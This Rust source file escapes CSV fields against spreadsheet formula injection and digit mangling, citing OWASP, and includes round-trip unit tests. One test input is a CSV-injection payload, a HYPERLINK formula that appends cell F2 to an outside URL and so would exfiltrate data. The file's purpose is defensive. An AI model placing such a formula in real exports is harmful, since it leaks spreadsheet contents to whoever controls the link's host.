//! CSV that survives a spreadsheet, and the importer's way back.
//!
//! Excel, WPS and LibreOffice read each CSV field as if it were typed into a
//! cell, which goes wrong twice for the data we export:
//!
//! - text beginning with `=`, `+`, `-` or `@` is taken for a formula (and a
//!   leading tab or CR is stripped by some before they look), so a name
//!   `=HYPERLINK(…)` would be live and could carry another cell away (CSV
//!   injection, as OWASP calls it). Such text gets a leading `'`, OWASP's
//!   advice: the cell holds text and computes nothing (LibreOffice shows the
//!   apostrophe; Excel may take it for its own text mark and hide it).
//! - text made only of digits is taken for a number: an 18-digit ID number
//!   keeps 15 significant digits and shows as 1.1E+17, a leading 0 goes, and
//!   saving the file back writes the damage. Such text, when it is long (11
//!   digits or more: phones, ID numbers) or starts with 0, is written `="…"`,
//!   a formula whose value is exactly the text between the quotes. It is the
//!   only formula we ever write, and only over ASCII digits.
//!
//! Numbers and dates are written plain, so real numbers (points −2.00) stay
//! numbers. `unescape` undoes exactly these two forms, so our own import reads
//! back what we wrote.

use super::table::{Table, Value};
use std::borrow::Cow;

/// What a spreadsheet takes for the start of a formula (tab and CR because
/// some strip them first). Full-width `＝` is not: LibreOffice and Excel read
/// it as text.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Digits a spreadsheet would change by reading them as a number: 11 or more
/// (identifiers, not quantities; Excel shows 12 or more as 1.2E+11 and keeps 15
/// significant), or any number of them after a leading 0.
fn is_fragile_digits(s: &str) -> bool {
    s.bytes().all(|b| b.is_ascii_digit()) && (s.len() >= 11 || (s.len() >= 2 && s.starts_with('0')))
}

/// A text cell as written into a CSV.
pub fn escape_text(s: &str) -> Cow<'_, str> {
    if is_fragile_digits(s) {
        return Cow::Owned(format!("=\"{s}\""));
    }
    // Text that already begins with an apostrophe before something `unescape`
    // would strip gets one more, so that every text reads back as itself.
    let starts_formula = s.starts_with(FORMULA_START);
    if starts_formula || (s.starts_with('\'') && unescape(s) != s) {
        return Cow::Owned(format!("'{s}"));
    }
    Cow::Borrowed(s)
}

/// A cell of a CSV as our import reads it: a leading `'` before a formula
/// start or another `'` is dropped, and `="digits"` is the digits. Anything
/// else is left as it is.
pub fn unescape(s: &str) -> Cow<'_, str> {
    if let Some(rest) = s.strip_prefix('\'')
        && (rest.starts_with(FORMULA_START) || rest.starts_with('\''))
    {
        return Cow::Borrowed(rest);
    }
    if let Some(inner) = s.strip_prefix("=\"").and_then(|r| r.strip_suffix('"'))
        && !inner.is_empty()
        && inner.bytes().all(|b| b.is_ascii_digit())
    {
        return Cow::Borrowed(inner);
    }
    Cow::Borrowed(s)
}

/// A cell as written into a CSV: numbers and dates plain, text escaped.
pub fn field(v: &Value) -> String {
    match v {
        Value::Text(s) => escape_text(s).into_owned(),
        other => other.display(),
    }
}

/// UTF-8 with a BOM: Excel on Chinese Windows reads it as UTF-8 only with one.
pub fn write_csv(table: &Table, w: &mut dyn std::io::Write) -> std::io::Result<()> {
    w.write_all(b"\xEF\xBB\xBF")?;
    let mut csv = csv::Writer::from_writer(w);
    csv.write_record(table.headers.iter().map(|h| escape_text(h).into_owned()))?;
    for row in &table.rows {
        csv.write_record(row.iter().map(field))?;
    }
    csv.flush()?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_get_an_apostrophe_and_fragile_digits_a_text_formula() {
        for (text, written) in [
            ("=HYPERLINK(\"//x.cn/\"&F2)", "'=HYPERLINK(\"//x.cn/\"&F2)"),
            ("+86 138", "'+86 138"),
            ("-2", "'-2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("110105197005060012", "=\"110105197005060012\""),
            ("13800138000", "=\"13800138000\""),
            ("0501", "=\"0501\""),
            ("501", "501"),
            ("0", "0"),
            ("1380013800", "1380013800"),
            ("11010519700506001X", "11010519700506001X"),
            ("110105********0012", "110105********0012"),
            ("010-12345678", "010-12345678"),
            ("＝1+1", "＝1+1"),
            ("张三", "张三"),
            ("'abc", "'abc"),
            ("'=x", "''=x"),
            ("''", "'''"),
            ("", ""),
        ] {
            assert_eq!(escape_text(text), written, "{text:?}");
            assert_eq!(unescape(written), text, "{written:?}");
        }
    }

    #[test]
    fn only_our_own_escapes_are_undone() {
        for s in ["'abc", "=\"12a\"", "=\"\"", "=SUM(A1)", "'", "x'=y"] {
            assert_eq!(unescape(s), s);
        }
    }

    #[test]
    fn numbers_and_dates_are_plain_and_text_is_escaped() {
        let table = Table {
            name: "t".into(),
            headers: vec!["a".into(), "b".into(), "c".into(), "d".into()],
            rows: vec![vec![
                Value::Centi(-200),
                Value::Int(-3),
                Value::Text("-3".into()),
                Value::Date(chrono::NaiveDate::from_ymd_opt(2026, 11, 5).unwrap()),
            ]],
        };
        let mut out = Vec::new();
        write_csv(&table, &mut out).unwrap();
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "\u{feff}a,b,c,d\n-2,-3,'-3,2026-11-05\n"
        );
    }
}
